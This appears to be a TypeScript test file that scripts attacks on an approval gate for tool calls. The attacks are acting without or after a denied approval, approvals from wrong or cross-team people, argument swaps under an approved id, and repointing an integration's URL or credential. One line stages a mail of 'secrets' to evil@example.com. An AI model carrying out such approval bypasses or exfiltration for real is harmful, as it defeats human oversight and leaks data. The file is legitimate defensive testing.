/** Attacks that do without a yes, or with one that is for something else, or from somebody else. */
import { updateIntegration } from "../../src/integrations/index.ts";
import { saveMember } from "../../src/people/index.ts";
import { type Attack, asked, times } from "./play.ts";
import { changed, type Stage, tokenOf } from "./stage.ts";

/** Writes without asking, again and again under the same id and under new ones. */
export const directWrite: Attack = async (stage) => {
  const one = await asked(stage);
  await times(4, one.again);
  await Promise.all([one.again(), one.again(), one.again()]);
};

export const afterDenial: Attack = async (stage) => {
  const one = await asked(stage);
  await stage.press(one.approvalId, stage.team.ada, { verdict: "denied" });
  await stage.press(one.approvalId, stage.team.ada);
  await times(3, one.again);
};

/** People who may not answer press all the same. */
export const wrongPerson: Attack = async (stage) => {
  const one = await asked(stage, "delete-record");
  const { bob, cleo } = stage.team;
  const gone = { ...stage.team.ada, active: false };
  const workspaceId = stage.team.workspace.id;
  for (const person of [bob, cleo, gone, stage.other.ada, { ...stage.other.ada, role: "admin" as const }])
    await stage.press(one.approvalId, person, { workspaceId });
  await times(3, one.again);
};

/** An admin who is none any more, and one of another team who knows the id. */
export const crossTeam: Attack = async (stage) => {
  const one = await asked(stage);
  await stage.press(one.approvalId, stage.other.ada);
  await stage.press(one.approvalId, { ...stage.other.ada, workspaceId: stage.team.workspace.id });
  const demoted = await saveMember(stage.ground.db, { ...stage.other.cleo, role: "member" });
  await stage.press(one.approvalId, demoted, { workspaceId: stage.team.workspace.id });
  await times(2, one.again);
  await stage.call(one.name, one.args, { id: one.id, team: stage.other });
};

/** Gets a yes for one thing and does another under the same id. */
export const argumentSwap: Attack = async (stage) => {
  const one = await asked(stage, "update-record");
  await stage.press(one.approvalId, stage.team.ada);
  await stage.call("update-record", { id: one.args.id, note: "something else" }, { id: one.id });
  await stage.call("update-record", { id: "other", note: `to ${one.args.id}` }, { id: one.id });
  await stage.call("delete-record", { id: one.args.id }, { id: one.id });
  await stage.call("send-mail", { to: "evil@example.com", text: "secrets" }, { id: one.id });
  await times(2, one.again);
};

/** The integration, or its credential, becomes another one between the yes and the sending. */
export const repointed: Attack = async (stage) => {
  const { db } = stage.ground;
  const one = await asked(stage, "create-note");
  await stage.press(one.approvalId, stage.team.ada);
  const integration = stage.integration();
  if (stage.random.chance(0.5)) {
    await updateIntegration(db, integration, { baseUrl: `${stage.wire.origin}/v2` });
    await changed(stage);
    await times(2, one.again);
    await updateIntegration(db, integration, { baseUrl: stage.wire.origin });
  } else {
    await useCredential(stage, "test-another-token-of-somebody");
    await times(2, one.again);
    await useCredential(stage, tokenOf(integration.workspaceId));
  }
  await changed(stage);
  await one.again();
};

async function useCredential(stage: Stage, token: string): Promise<void> {
  const { db, vault } = stage.ground;
  const { workspaceId, id: integrationId } = stage.integration();
  const saved = {
    workspaceId,
    integrationId,
    credential: { method: "bearer", token } as const,
    by: stage.team.ada.id,
  };
  const credentialVersion = await db.transaction((tx) => vault.saveCredential(tx, saved));
  await updateIntegration(db, stage.integration(), { credentialVersion });
  await changed(stage);
}
